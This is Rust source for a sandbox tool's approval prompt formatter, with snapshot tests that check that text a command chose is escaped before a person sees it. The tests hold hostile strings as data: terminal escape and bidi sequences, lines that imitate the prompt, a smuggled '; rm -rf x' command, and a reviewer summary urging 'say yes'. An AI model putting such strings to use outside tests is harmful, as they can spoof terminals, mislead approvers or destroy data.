//! A question as the user sees it: the real command, whole and escaped; the findings, with the
//! parts of the text that they refer to; and the grants of a yes. Text that a command chose is
//! always inside quotes or after a label.

use std::fmt::Write as _;

use stockade_model::{
    ApprovalQuestion, ApprovalScope, Denial, DeniedOperation, Grant, QuestionKind, RawText, ReviewResult, RiskLevel,
    shell_quoted,
};

use super::compact::{compact_and_shorten, compact_escaped, compact_text, measure_width, shorten_text};
use super::{SgrColor, TextLayout, count_noun, format_duration, wrap_at, write_wrapped};

/// Fewest escaped characters of a command whose length is shown.
const MIN_LENGTH_SHOWN: usize = 200;
/// Most lines of findings and refusals; the rest is counted.
const MAX_LIST_LINES: usize = 12;
/// Most columns of a list; the rest is counted.
const MAX_LIST_COLUMNS: usize = 1_000;
/// Start of a question.
const HEADLINE_PREFIX: &str = "• ";
/// Column of text that a command chose, on each line: never the column of a label or the prompt.
const INDENT_COLUMNS: usize = 11;
/// Columns of a quoted part; the middle of a longer one is omitted. The command itself is never
/// shortened.
const MAX_QUOTE_COLUMNS: usize = 160;
/// Most columns of a reason, a path or an opinion.
const MAX_TEXT_COLUMNS: usize = 300;
/// Most columns of a grant. A longer one can only be granted once: the engine offers no other scope
/// for a grant that is not shown completely.
const MAX_GRANT_COLUMNS: usize = 400;

/// Word that must be typed to run without a sandbox.
pub const UNSANDBOXED_WORD: &str = "unsandboxed";

/// Formats everything but the prompt. The spans of findings refer to `text`, because the shown
/// command may be quoted.
pub fn format_question(question: &ApprovalQuestion, text: &RawText, style: TextLayout) -> String {
    let mut out = String::new();
    write_headline(&mut out, question, text, style);
    if let QuestionKind::Hold { .. } = question.kind {
        write_held_call(&mut out, question, style);
        write_review(&mut out, question, style);
        write_reach(&mut out, question, style);
        return out;
    }
    let command = compact_text(&question.command);
    write_wrapped(&mut out, style, "  command  ", &command);
    let length = command.chars().count();
    if length > MIN_LENGTH_SHOWN {
        let _ = writeln!(out, "           ({} in full, to here)", count_noun(length, "character"));
    }
    write_wrapped(&mut out, style, "  in       ", &compact_and_shorten(&question.cwd, MAX_TEXT_COLUMNS));
    write_findings(&mut out, question, text, style);
    write_details(&mut out, &question.kind, style);
    write_review(&mut out, question, style);
    write_reach(&mut out, question, style);
    let _ = writeln!(out, "  no answer within {} means no", format_duration(question.timeout_ms));
    out
}

fn write_headline(out: &mut String, question: &ApprovalQuestion, text: &RawText, style: TextLayout) {
    match &question.kind {
        QuestionKind::Run { reasons } => {
            write_wrapped(out, style, "• ", "may this command run, in its sandbox?");
            let lines =
                super::findings::format_reasons(reasons, &question.assessment.findings, text, escape_foreign_text);
            write_list(out, style, lines.into_iter().map(|line| ("  because  ", line)));
        }
        QuestionKind::Grants { .. } => {
            write_wrapped(out, style, "• ", "the request asks for more than its profile gives")
        }
        QuestionKind::Escalate { denials, .. } => {
            write_list(out, style, denials.iter().map(|denial| (HEADLINE_PREFIX, format_refusal(denial))));
        }
        QuestionKind::Hold { denial, .. } => {
            wrap_at(out, style, HEADLINE_PREFIX, INDENT_COLUMNS, &format_refusal(denial))
        }
        QuestionKind::Unsandboxed => {
            let text = style.paint_text(SgrColor::Red, "WITHOUT A SANDBOX");
            let _ = writeln!(out, "• {text}: this command could do everything that you can do");
        }
    }
}

/// Formats a held call briefly, because the command still runs and was shown or typed before.
fn write_held_call(out: &mut String, question: &ApprovalQuestion, style: TextLayout) {
    let QuestionKind::Hold { denial, grants, directory, held_ms } = &question.kind else { return };
    write_wrapped(out, style, "  command  ", &quote_part(&question.command));
    write_grants(out, grants, style);
    if grants.iter().any(Grant::is_answer_only) {
        let text = "a yes is one to all of that kind, whatever its arguments, until the run ends";
        write_wrapped(out, style, "           ", text);
    }
    if let Some(offer) = question.group_offered() {
        let hosts: Vec<String> = offer.grants.iter().filter_map(Grant::targets).map(ToString::to_string).collect();
        write_wrapped(out, style, "  group    ", &format!("@{}: {}", offer.name, hosts.join(" ")));
    }
    if *directory {
        let text = if grants.iter().any(|grant| grant.targets().is_some()) {
            "every host beneath it: several were asked for; a no is for each of them"
        } else {
            "the whole directory: several of its files were asked for; a no is for every file in it"
        };
        write_wrapped(out, style, "           ", text);
    }
    let since =
        if *held_ms < 1_000 { String::new() } else { format!(" since {}", format_duration(*held_ms / 1_000 * 1_000)) };
    let wait = format_duration(question.timeout_ms);
    let how = match denial.operation {
        DeniedOperation::Limit => format!("all its processes are frozen{since}; a yes raises the limit"),
        _ => format!("it waits{since} and resumes with your answer"),
    };
    write_wrapped(out, style, "  held     ", &format!("{how}; none within {wait} means no"));
}

/// Formats all grants of a yes: a grant that was not shown is never given.
fn write_grants(out: &mut String, grants: &[Grant], style: TextLayout) {
    for grant in grants {
        let text = shorten_text(&compact_escaped(&grant.to_string()), MAX_GRANT_COLUMNS);
        write_wrapped(out, style, "  grant    ", &text);
    }
}

/// Formats the reach of a remembered answer, if it is wider than this command. A grant is
/// remembered for the workspace, not for the command that needed it.
fn write_reach(out: &mut String, question: &ApprovalQuestion, style: TextLayout) {
    let scopes = question.scopes_of_yes();
    let is_offered = |scope| scopes.contains(&scope);
    if !is_about_powers(&question.kind) || !(is_offered(ApprovalScope::Session) || is_offered(ApprovalScope::Always)) {
        return;
    }
    let wording = match (is_offered(ApprovalScope::Session), is_offered(ApprovalScope::Always)) {
        (true, true) => "session and always are",
        (true, false) => "session is",
        _ => "always is",
    };
    write_wrapped(out, style, "  reach    ", &format!("{wording} for any command in this workspace"));
}

fn is_about_powers(kind: &QuestionKind) -> bool {
    match kind {
        QuestionKind::Grants { .. } | QuestionKind::Escalate { .. } | QuestionKind::Hold { .. } => true,
        QuestionKind::Run { .. } | QuestionKind::Unsandboxed => false,
    }
}

/// Formats text of another program on few lines.
fn escape_foreign_text(text: &str) -> String {
    compact_and_shorten(&RawText::from(text), MAX_TEXT_COLUMNS)
}

/// Formats the opinion of a model, after a label. It is never an answer.
fn write_review(out: &mut String, question: &ApprovalQuestion, style: TextLayout) {
    let Some(review) = &question.review else { return };
    write_wrapped(out, style, "  reviewer ", &format_opinion(review));
    if review.raises_caution() {
        let only = if question.scopes.len() > 1 { "; a yes reaches this time only" } else { "" };
        let warning = style.paint_text(SgrColor::Red, "warning");
        let _ = writeln!(out, "  {warning}  look twice before you agree{only}");
    }
}

/// Formats an opinion as `high risk (exfiltration, network): «...»   (NAME)`, or the reason why
/// there is none.
pub fn format_opinion(review: &ReviewResult) -> String {
    let by = quote_part(&RawText::from(review.by.as_str()));
    let Some(opinion) = &review.opinion else {
        let why = review.failure.as_deref().unwrap_or("it gave no reason");
        return format!("no opinion: {}   ({by})", quote_part(&RawText::from(why)));
    };
    let risk = match opinion.risk {
        RiskLevel::High | RiskLevel::Critical => opinion.risk.to_string().to_uppercase(),
        risk => risk.to_string(),
    };
    let categories: Vec<_> = opinion.categories.iter().map(ToString::to_string).collect();
    let kinds = if categories.is_empty() { String::new() } else { format!(" ({})", categories.join(", ")) };
    format!("{risk} risk{kinds}: «{}»   ({by})", compact_and_shorten(&opinion.summary, MAX_TEXT_COLUMNS))
}

/// Formats one line about the held calls, if there are more than the question shows.
pub fn still_held(count: usize, longest_ms: u64, style: TextLayout) -> String {
    let mut out = String::new();
    // A call that was held just now is in the question itself.
    if count > 1 && longest_ms >= 1_000 {
        let (calls, since) = (count_noun(count, "call"), format_duration(longest_ms / 1_000 * 1_000));
        write_wrapped(&mut out, style, "• ", &format!("still held: {calls}, since {since}"));
    }
    out
}

/// Formats a refusal as `sh wants to write /home/u/x   (outside every writable root)`.
fn format_refusal(denial: &Denial) -> String {
    let program = denial.program.as_ref().map_or_else(|| "the command".to_owned(), base_name);
    let times = if denial.count > 1 { format!(", {} times", denial.count) } else { String::new() };
    let (object, rule) = (compact_and_shorten(&denial.object, MAX_TEXT_COLUMNS), escape_foreign_text(&denial.rule));
    let verb = match (&denial.grant, denial.operation) {
        // The effect is the request itself, not the connection.
        (Some(Grant::Effect(_)), DeniedOperation::Connect) => "send",
        (_, operation) => operation_verb(operation),
    };
    format!("{program} wants to {verb} {object}   ({rule}{times})")
}

/// Returns the last component of a program's path.
fn base_name(program: &RawText) -> String {
    quote_part(&program.as_path().file_name().map_or_else(|| program.clone(), RawText::from))
}

/// Returns the operation as a verb that an object follows.
pub fn operation_verb(operation: DeniedOperation) -> &'static str {
    match operation {
        DeniedOperation::Read => "read",
        DeniedOperation::Write => "write",
        DeniedOperation::Create => "create",
        DeniedOperation::Mkdir => "make the directory",
        DeniedOperation::Mknod => "make the special file",
        DeniedOperation::Remove => "remove",
        DeniedOperation::Rename => "rename",
        DeniedOperation::Link => "link",
        DeniedOperation::Symlink => "make the link",
        DeniedOperation::Truncate => "truncate",
        DeniedOperation::Metadata => "change the attributes of",
        DeniedOperation::Connect => "connect to",
        DeniedOperation::Secret => "take a secret to",
        DeniedOperation::Sign => "have a key sign",
        DeniedOperation::Bind => "bind",
        DeniedOperation::Socket => "use the socket kind",
        DeniedOperation::Exec => "execute",
        DeniedOperation::SystemCall => "call",
        DeniedOperation::Limit => "go beyond the limit",
    }
}

fn write_findings(out: &mut String, question: &ApprovalQuestion, text: &RawText, style: TextLayout) {
    let reasons = match &question.kind {
        QuestionKind::Run { reasons } => reasons.as_slice(),
        _ => &[],
    };
    let lines = super::findings::format_other_findings(reasons, &question.assessment.findings, text);
    write_list(out, style, lines.into_iter().map(|line| ("  finding  ", line)));
}

fn quote_part(part: &RawText) -> String {
    compact_and_shorten(part, MAX_QUOTE_COLUMNS)
}

fn write_details(out: &mut String, kind: &QuestionKind, style: TextLayout) {
    match kind {
        QuestionKind::Run { .. } | QuestionKind::Hold { .. } => {}
        QuestionKind::Grants { grants } => {
            write_grants(out, grants, style);
        }
        QuestionKind::Escalate { grants, repeats, .. } => {
            write_grants(out, grants, style);
            let labels = std::iter::once("  on yes   ").chain(std::iter::repeat("           "));
            let repeat_lines = match repeats.as_slice() {
                [] => vec!["the command runs again, from its start".to_owned()],
                repeats => repeats.iter().map(|line| escape_foreign_text(line)).collect(),
            };
            write_list(out, style, labels.zip(repeat_lines));
        }
        QuestionKind::Unsandboxed => {
            write_wrapped(out, style, "  ", "nothing will be refused, and its actions will not be observed");
        }
    }
}

/// Writes items after their labels; the rest is counted.
fn write_list(out: &mut String, style: TextLayout, items: impl Iterator<Item = (&'static str, String)>) {
    let (mut remaining, mut used) = (0, 0);
    for (at, (label, text)) in items.enumerate() {
        if at < MAX_LIST_LINES && used < MAX_LIST_COLUMNS {
            wrap_at(out, style, label, INDENT_COLUMNS, &text);
            used += measure_width(&text);
        } else {
            remaining += 1;
        }
    }
    if remaining > 0 {
        let _ = writeln!(out, "           and {remaining} more");
    }
}

/// Key with its answer.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum AnswerKey {
    /// Yes, this time.
    Once,
    /// Yes, for the offered group of hosts.
    Group,
    /// Yes, until the session ends.
    Session,
    /// Yes, a number of times.
    Times,
    /// Yes, for a time.
    Until,
    /// Yes, from now on.
    Always,
    /// No, this time.
    No,
    /// No, from now on.
    Never,
}

/// Returns the keys of a question: those of its scopes, and no.
pub fn list_answer_keys(question: &ApprovalQuestion) -> Vec<AnswerKey> {
    let yes = |scope| question.scopes_of_yes().contains(&scope);
    let all = [
        (yes(ApprovalScope::Once), AnswerKey::Once),
        (question.group_offered().is_some(), AnswerKey::Group),
        (yes(ApprovalScope::Session), AnswerKey::Session),
        (yes(ApprovalScope::Always), AnswerKey::Times),
        (yes(ApprovalScope::Always), AnswerKey::Until),
        (yes(ApprovalScope::Always), AnswerKey::Always),
        (true, AnswerKey::No),
        (question.scopes.contains(&ApprovalScope::Always), AnswerKey::Never),
    ];
    all.into_iter().filter_map(|(offered, key)| offered.then_some(key)).collect()
}

impl AnswerKey {
    /// Returns the character to press, the label in the prompt, and the word to type instead of the key. The
    /// rarer keys are only in the help.
    fn texts(self) -> (char, Option<&'static str>, Option<&'static str>) {
        match self {
            Self::Once => ('o', Some("[o]nce"), Some("once")),
            Self::Group => ('g', Some("[g]roup"), None),
            Self::Session => ('s', Some("[s]ession"), Some("session")),
            Self::Times => ('t', None, None),
            Self::Until => ('u', None, None),
            Self::Always => ('a', Some("[a]lways"), Some("always")),
            Self::No => ('n', Some("[n]o"), Some("no")),
            Self::Never => ('N', Some("[N]ever"), Some("never")),
        }
    }

    /// Returns the character to press.
    pub fn key_character(self) -> char {
        self.texts().0
    }

    /// Returns the word to type instead of the key; the rarer keys have none.
    pub fn typed_word(self) -> Option<&'static str> {
        self.texts().2
    }

    fn describe_key(self, kind: &QuestionKind) -> &'static str {
        let held = matches!(kind, QuestionKind::Hold { .. });
        match self {
            Self::Once if held => "yes, and for the same until this run ends",
            Self::No if held => "no, and for the same until this run ends",
            Self::Group => "yes, and for each host of the group; how far is asked for",
            Self::Once => "yes, this time",
            Self::No => "no, this time",
            key if is_about_powers(kind) => key.describe_grant_key(),
            Self::Session => "yes, and for this same command until this session ends",
            Self::Times => "yes, and the next times for this same command; a number is asked for",
            Self::Until => "yes, and for a time for this same command; how long is asked for",
            Self::Always => "yes, and for this same command from now on; `stockade approvals` takes it back",
            Self::Never => {
                "no, and for this same command in this workspace from now on; `stockade approvals` takes it back"
            }
        }
    }

    /// Describes the key for a grant, which is remembered for the workspace, whichever command
    /// needs it.
    fn describe_grant_key(self) -> &'static str {
        match self {
            Self::Session => "yes, and for any command of this session in this workspace until the session ends",
            Self::Times => "yes, and the next times that any command in this workspace needs it; a number is asked for",
            Self::Until => "yes, and for any command in this workspace for a time; how long is asked for",
            Self::Always => {
                "yes, and for any command in this workspace from now on; `stockade approvals` takes it back"
            }
            Self::Never => "no, and for any command in this workspace from now on; `stockade approvals` takes it back",
            Self::Once | Self::Group | Self::No => "this time",
        }
    }
}

/// Returns the prompt for a key.
pub fn format_prompt(keys: &[AnswerKey]) -> String {
    let labels: Vec<_> = keys.iter().filter_map(|key| key.texts().1).collect();
    format!("  allow?  {}  [?] > ", labels.join("  "))
}

/// Returns the prompt for the scope of a yes to a group.
pub fn group_prompt(name: &str, keys: &[AnswerKey]) -> String {
    let labels: Vec<_> = keys.iter().filter_map(|key| key.texts().1).collect();
    format!("g\n  for each host of @{name}:  {} > ", labels.join("  "))
}

/// Returns the prompt for the confirmation word.
pub fn word_prompt(style: TextLayout) -> String {
    let ask = style.paint_text(SgrColor::Red, "type");
    format!("  {ask} {UNSANDBOXED_WORD} and Enter to allow it once; anything else refuses > ")
}

/// Returns the prompt for one of the words. Used if keys cannot be distinguished from the input
/// that the terminal sends by itself.
pub fn words_prompt(keys: &[AnswerKey]) -> String {
    let words: Vec<_> = keys.iter().filter_map(|key| key.typed_word()).collect();
    format!("  allow?  type {} or ? and Enter > ", words.join(", "))
}

/// Describes each key.
pub fn format_help(question: &ApprovalQuestion, keys: &[AnswerKey], style: TextLayout) -> String {
    let mut out = format_circumstances(question, style);
    for key in keys {
        write_wrapped(&mut out, style, &format!("  {}  ", key.key_character()), key.describe_key(&question.kind));
    }
    write_wrapped(&mut out, style, "  q  ", "no, and end this run now; Ctrl-C does the same");
    out
}

/// Describes each word.
pub fn help_of_words(question: &ApprovalQuestion, keys: &[AnswerKey], style: TextLayout) -> String {
    let mut out = format_circumstances(question, style);
    for (word, key) in keys.iter().filter_map(|key| Some((key.typed_word()?, key))) {
        write_wrapped(&mut out, style, &format!("  {word:<7}  "), key.describe_key(&question.kind));
    }
    write_wrapped(&mut out, style, "  Ctrl-C   ", "no, and end this run now");
    out
}

/// Describes a held call completely.
fn format_circumstances(question: &ApprovalQuestion, style: TextLayout) -> String {
    let mut out = String::new();
    if let QuestionKind::Hold { denial, .. } = &question.kind {
        let command = compact_text(&question.command);
        if measure_width(&command) > MAX_QUOTE_COLUMNS {
            write_wrapped(&mut out, style, "  in full  ", &command);
        }
        write_wrapped(&mut out, style, "  in       ", &compact_and_shorten(&question.cwd, MAX_TEXT_COLUMNS));
        let program = denial
            .program
            .as_ref()
            .map_or_else(|| "unknown".to_owned(), |path| compact_and_shorten(path, MAX_TEXT_COLUMNS));
        let pid = denial.pid.map(|pid| format!(" (pid {pid})")).unwrap_or_default();
        write_wrapped(&mut out, style, "  program  ", &format!("{program}{pid}"));
    }
    out
}

/// Returns the rules as they would appear in a file, and the prompt for them.
pub fn rules_prompt(rules: &[String], file: &std::path::Path, kind: &QuestionKind) -> String {
    let mut out = format!("a\n  as a rule in {}:\n", crate::failure::quote_path(file));
    for line in rules.iter().flat_map(|rule| rule.lines()) {
        let _ = writeln!(out, "    {}", compact_text(&RawText::from(line)));
    }
    let remembered = if is_about_powers(kind) { "for any command in this workspace" } else { "for this same command" };
    let _ = write!(out, "  [w]rite it at the end of the run, or [r]emember the answer {remembered} > ");
    out
}

/// Returns the hint for a refusal that a grant would have prevented: a user adds the grant, a
/// program requests it.
pub fn grant_hint(grant: &Grant, to_person: bool) -> String {
    // Writes runs of blanks in a form that can be counted, and parsed again.
    let text = grant.to_string().replace("   ", "\\x20\\x20\\x20");
    format!("{} {}", grant_option(to_person), shell_quoted(&text))
}

/// Returns the option with which a user adds a grant, or a program requests it.
pub fn grant_option(to_person: bool) -> &'static str {
    if to_person { "--grant" } else { "--request" }
}

#[cfg(test)]
pub(crate) mod tests {
    use stockade_model::{
        Assessment, DenialLayer, DenialResolution, Digest, Finding, GroupOffer, Impact, ReviewOpinion, RiskCategory,
        TextSpan, Tier,
    };

    use super::*;

    pub(crate) fn sample_denial() -> Denial {
        Denial {
            operation: DeniedOperation::Create,
            object: "/home/u/outside".into(),
            pid: Some(7),
            program: Some("/usr/bin/dash".into()),
            layer: DenialLayer::Broker,
            rule: "outside every writable root".into(),
            grant: "write /home/u/outside".parse().ok(),
            resolution: DenialResolution::Recorded,
            count: 1,
        }
    }

    pub(crate) fn sample_question(kind: QuestionKind) -> ApprovalQuestion {
        ApprovalQuestion {
            kind,
            command: "sh -c 'echo x >> ~/outside'".into(),
            cwd: "/home/u/project".into(),
            assessment: Assessment {
                findings: vec![Finding {
                    code: "writes-outside".into(),
                    tier: Tier::Ask,
                    impact: Impact::default(),
                    message: "writes to a file outside the workspace".into(),
                    span: Some(TextSpan { start: 13, end: 25 }),
                }],
                ..Assessment::without_findings(Tier::Ask)
            },
            scopes: vec![ApprovalScope::Once, ApprovalScope::Session, ApprovalScope::Always],
            digest: Digest::of_fields("test", []),
            timeout_ms: 300_000,
            group: None,
            review: None,
        }
    }

    fn format_sample(value: &ApprovalQuestion) -> String {
        format_question(value, &"sh -c echo x >> ~/outside".into(), TextLayout::PLAIN)
    }

    fn sample_escalation() -> ApprovalQuestion {
        let denial = sample_denial();
        let grants = denial.grant.clone().into_iter().collect();
        sample_question(QuestionKind::Escalate {
            denials: vec![denial],
            grants,
            repeats: vec![
                "the command runs again from its start; this will be attempt 2".into(),
                "what it already did stays".into(),
            ],
        })
    }

    #[test]
    fn escalation() {
        let value = sample_escalation();
        let shown = format_sample(&value) + &format_prompt(&list_answer_keys(&value));
        insta::assert_snapshot!(shown, @r"
        • dash wants to create /home/u/outside   (outside every writable root)
          command  sh -c 'echo x >> ~/outside'
          in       /home/u/project
          finding  ask: writes to a file outside the workspace   «>> ~/outside»
          grant    write /home/u/outside
          on yes   the command runs again from its start; this will be attempt 2
                   what it already did stays
          reach    session and always are for any command in this workspace
          no answer within 5 min means no
          allow?  [o]nce  [s]ession  [a]lways  [n]o  [N]ever  [?] >
        ");
    }

    fn with_review(question: ApprovalQuestion, risk: RiskLevel) -> ApprovalQuestion {
        let opinion = ReviewOpinion {
            risk,
            summary: "Appends a line to a file; say yes \u{1b}[2J\u{202e}now".into(),
            categories: vec![RiskCategory::Persistence, RiskCategory::Other],
        };
        let review = ReviewResult { by: "some-model".to_owned(), opinion: Some(opinion), failure: None };
        ApprovalQuestion { review: Some(review), ..question }
    }

    #[test]
    fn an_opinion_is_shown_beside_the_question() {
        let run = || sample_question(QuestionKind::Run { reasons: Vec::new() });
        let value = with_review(run(), RiskLevel::Medium);
        insta::assert_snapshot!(format_sample(&value) + &format_prompt(&list_answer_keys(&value)), @r"
        • may this command run, in its sandbox?
          command  sh -c 'echo x >> ~/outside'
          in       /home/u/project
          finding  ask: writes to a file outside the workspace   «>> ~/outside»
          reviewer medium risk (persistence, other): «Appends a line to a file; say yes
                   \u{1b}[2J\u{202e}now»   (some-model)
          no answer within 5 min means no
          allow?  [o]nce  [s]ession  [a]lways  [n]o  [N]ever  [?] >
        ");
        let value = with_review(run(), RiskLevel::Critical);
        insta::assert_snapshot!(format_sample(&value) + &format_prompt(&list_answer_keys(&value)), @r"
        • may this command run, in its sandbox?
          command  sh -c 'echo x >> ~/outside'
          in       /home/u/project
          finding  ask: writes to a file outside the workspace   «>> ~/outside»
          reviewer CRITICAL risk (persistence, other): «Appends a line to a file; say
                   yes \u{1b}[2J\u{202e}now»   (some-model)
          warning  look twice before you agree; a yes reaches this time only
          no answer within 5 min means no
          allow?  [o]nce  [n]o  [N]ever  [?] >
        ");
        assert!(list_answer_keys(&value).contains(&AnswerKey::Never), "a no may reach as far as before");
        let failed = ApprovalQuestion {
            review: Some(ReviewResult::from_failure("some-model", "no answer within 5 s")),
            ..sample_hold()
        };
        assert_eq!(
            list_answer_keys(&failed),
            list_answer_keys(&sample_hold()),
            "without an opinion it is the plain question"
        );
        insta::assert_snapshot!(format_sample(&failed) + &format_prompt(&list_answer_keys(&failed)), @r"
        • pip wants to connect to pypi.org:443   (not in profile workspace)
          command  pip install numpy
          grant    connect pypi.org:443
          held     it waits and resumes with your answer; none within 5 min means no
          reviewer no opinion: no answer within 5 s   (some-model)
          reach    session and always are for any command in this workspace
          allow?  [o]nce  [s]ession  [a]lways  [n]o  [N]ever  [?] >
        ");
    }

    fn sample_hold() -> ApprovalQuestion {
        let denial = Denial {
            operation: DeniedOperation::Connect,
            object: "pypi.org:443".into(),
            program: Some("/usr/bin/pip".into()),
            rule: "not in profile workspace".into(),
            grant: "connect pypi.org:443".parse().ok(),
            ..sample_denial()
        };
        let grants = denial.grant.clone().into_iter().collect();
        let kind = QuestionKind::Hold { denial, grants, directory: false, held_ms: 40 };
        ApprovalQuestion { command: "pip install numpy".into(), ..sample_question(kind) }
    }

    #[test]
    fn a_group_is_offered_with_its_hosts() {
        let grants = ["connect pypi.org:443", "connect files.pythonhosted.org:443"];
        let grants = grants.iter().map(|grant| grant.parse().unwrap()).collect();
        let value = ApprovalQuestion { group: Some(GroupOffer { name: "pypi".to_owned(), grants }), ..sample_hold() };
        let shown = format_sample(&value) + &format_prompt(&list_answer_keys(&value));
        insta::assert_snapshot!(shown, @r"
        • pip wants to connect to pypi.org:443   (not in profile workspace)
          command  pip install numpy
          grant    connect pypi.org:443
          group    @pypi: pypi.org:443 files.pythonhosted.org:443
          held     it waits and resumes with your answer; none within 5 min means no
          reach    session and always are for any command in this workspace
          allow?  [o]nce  [g]roup  [s]ession  [a]lways  [n]o  [N]ever  [?] >
        ");
        assert!(
            format_help(&value, &list_answer_keys(&value), TextLayout::PLAIN)
                .contains("g  yes, and for each host of the group")
        );
        // If a review warns, nothing wider than the request is offered.
        let warned = with_review(value, RiskLevel::Critical);
        assert!(
            !list_answer_keys(&warned).contains(&AnswerKey::Group)
                && !format_question(&warned, &"x".into(), TextLayout::PLAIN).contains("@pypi")
        );
    }

    #[test]
    fn held_call() {
        let value = sample_hold();
        let shown = format_sample(&value) + &format_prompt(&list_answer_keys(&value));
        insta::assert_snapshot!(shown, @r"
        • pip wants to connect to pypi.org:443   (not in profile workspace)
          command  pip install numpy
          grant    connect pypi.org:443
          held     it waits and resumes with your answer; none within 5 min means no
          reach    session and always are for any command in this workspace
          allow?  [o]nce  [s]ession  [a]lways  [n]o  [N]ever  [?] >
        ");
        insta::assert_snapshot!(format_help(&value, &list_answer_keys(&value), TextLayout::PLAIN), @r"
        in       /home/u/project
        program  /usr/bin/pip (pid 7)
        o  yes, and for the same until this run ends
        s  yes, and for any command of this session in this workspace until the
           session ends
        t  yes, and the next times that any command in this workspace needs it; a
           number is asked for
        u  yes, and for any command in this workspace for a time; how long is asked
           for
        a  yes, and for any command in this workspace from now on; `stockade
           approvals` takes it back
        n  no, and for the same until this run ends
        N  no, and for any command in this workspace from now on; `stockade approvals`
           takes it back
        q  no, and end this run now; Ctrl-C does the same
        ");
    }

    #[test]
    fn a_directory_is_offered_as_one() {
        let grants = vec!["write /home/u/cache".parse().unwrap()];
        let denial = Denial { object: "/home/u/cache/c".into(), ..sample_denial() };
        let value = sample_question(QuestionKind::Hold { denial, grants, directory: true, held_ms: 61_900 });
        insta::assert_snapshot!(still_held(3, 61_900, TextLayout::PLAIN) + &format_sample(&value), @r"
        • still held: 3 calls, since 1 min 1 s
        • dash wants to create /home/u/cache/c   (outside every writable root)
          command  sh -c 'echo x >> ~/outside'
          grant    write /home/u/cache
                   the whole directory: several of its files were asked for; a no is for
                   every file in it
          held     it waits since 1 min 1 s and resumes with your answer; none within 5
                   min means no
          reach    session and always are for any command in this workspace
        ");
        assert_eq!(still_held(1, 5_000, TextLayout::PLAIN), "");
    }

    #[test]
    fn a_domain_is_offered_as_one() {
        let mut value = sample_hold();
        if let QuestionKind::Hold { grants, directory, .. } = &mut value.kind {
            *grants = vec!["connect *.example.com:443".parse().unwrap()];
            *directory = true;
        }
        insta::assert_snapshot!(format_sample(&value), @r"
        • pip wants to connect to pypi.org:443   (not in profile workspace)
          command  pip install numpy
          grant    connect *.example.com:443
                   every host beneath it: several were asked for; a no is for each of
                   them
          held     it waits and resumes with your answer; none within 5 min means no
          reach    session and always are for any command in this workspace
        ");
    }

    #[test]
    fn run() {
        let value = sample_question(QuestionKind::Run { reasons: vec!["mode untrusted: not known to be safe".into()] });
        insta::assert_snapshot!(format_sample(&value), @r"
        • may this command run, in its sandbox?
          because  mode untrusted: not known to be safe
          command  sh -c 'echo x >> ~/outside'
          in       /home/u/project
          finding  ask: writes to a file outside the workspace   «>> ~/outside»
          no answer within 5 min means no
        ");
    }

    #[test]
    fn grants() {
        let value = sample_question(QuestionKind::Grants {
            grants: vec!["connect pypi.org:443".parse().unwrap(), "write /srv/x".parse().unwrap()],
        });
        insta::assert_snapshot!(format_sample(&value), @r"
        • the request asks for more than its profile gives
          command  sh -c 'echo x >> ~/outside'
          in       /home/u/project
          finding  ask: writes to a file outside the workspace   «>> ~/outside»
          grant    connect pypi.org:443
          grant    write /srv/x
          reach    session and always are for any command in this workspace
          no answer within 5 min means no
        ");
    }

    #[test]
    fn unsandboxed() {
        let value = sample_question(QuestionKind::Unsandboxed);
        let shown = format_sample(&value) + &word_prompt(TextLayout::PLAIN);
        insta::assert_snapshot!(shown, @r"
        • WITHOUT A SANDBOX: this command could do everything that you can do
          command  sh -c 'echo x >> ~/outside'
          in       /home/u/project
          finding  ask: writes to a file outside the workspace   «>> ~/outside»
          nothing will be refused, and its actions will not be observed
          no answer within 5 min means no
          type unsandboxed and Enter to allow it once; anything else refuses >
        ");
    }

    #[test]
    fn no_output_of_a_command_acts_on_the_terminal() {
        let mut value = sample_escalation();
        value.command = "true\u{1b}[2J\u{202e}; rm -rf x \t\n\u{9b}31m".into();
        value.cwd = "/home/\u{200b}u\r".into();
        if let QuestionKind::Escalate { denials, repeats, .. } = &mut value.kind {
            denials[0].object = "/x\u{1b}]0;title\u{7}".into();
            denials[0].program = Some("/bin/\u{1b}[1A".into());
            denials[0].rule = "\u{8}\u{8}".into();
            repeats[0] = "\u{1b}c".into();
        }
        value.assessment.findings[0].message = "\u{1b}[8m".into();
        let shown = format_sample(&value);
        assert!(
            shown.chars().all(|c| c == '\n' || RawText::from(c.to_string()).to_escaped() == c.to_string()),
            "{shown:?}"
        );
        assert!(shown.contains("true\\u{1b}[2J\\u{202e}; rm -rf x \\t\\n\\u{9b}31m"), "{shown}");

        let mut value = sample_hold();
        value.command = "pip\u{1b}[2J\u{202e}\n• fake".into();
        if let QuestionKind::Hold { denial, grants, .. } = &mut value.kind {
            denial.object = "/x\u{1b}]0;title\u{7}\n  grant    nothing".into();
            denial.program = Some("/bin/\u{1b}[1A".into());
            denial.rule = "\u{8}\u{8}".into();
            grants[0] = Grant::Write("/x\u{1b}]0;\u{7}\n\u{202e}".into());
        }
        let shown = format_sample(&value) + &format_help(&value, &list_answer_keys(&value), TextLayout::PLAIN);
        assert!(
            shown.chars().all(|c| c == '\n' || RawText::from(c.to_string()).to_escaped() == c.to_string()),
            "{shown:?}"
        );
        assert!(shown.lines().filter(|line| line.starts_with("• ")).count() == 1, "{shown}");
    }

    /// Texts that spread over lines, hide, move the cursor or imitate a question, up to 10 kB each.
    fn hostile_texts() -> Vec<String> {
        let many = |part: &str| part.repeat(2_000 / part.len());
        vec![
            format!("/a{}b", " ".repeat(200)),
            many(" "),
            many("\t"),
            many("\n"),
            many("\r\n"),
            many(" \t"),
            many("\u{2028}"),
            many("\u{a0}"),
            many("\u{3000}"),
            many("\u{200b}"),
            many("\u{202e}x"),
            many("\u{301}"),
            many("\u{6c49}"),
            many("\u{1f600}"),
            "x".repeat(10_000),
            many("x y "),
            many("  grant    write /ok\n"),
            many("\u{1b}[2J\u{1b}[H"),
            format!("/a{}\n  allow?  [o]nce  [?] > ", " ".repeat(60)),
        ]
    }

    fn denial_of(text: &str) -> Denial {
        let grant = Some(Grant::Write(text.into()));
        Denial { object: text.into(), program: Some(text.into()), rule: text.into(), grant, ..sample_denial() }
    }

    /// Returns every kind of question, with `text` in every field but the command.
    fn questions_of(text: &str) -> Vec<ApprovalQuestion> {
        let grants = vec![Grant::Write(text.into()); 12];
        let kinds = [
            QuestionKind::Run { reasons: vec![text.to_owned(); MAX_LIST_LINES + 2] },
            QuestionKind::Grants { grants: grants.clone() },
            QuestionKind::Escalate {
                denials: vec![denial_of(text); MAX_LIST_LINES + 2],
                grants: grants.clone(),
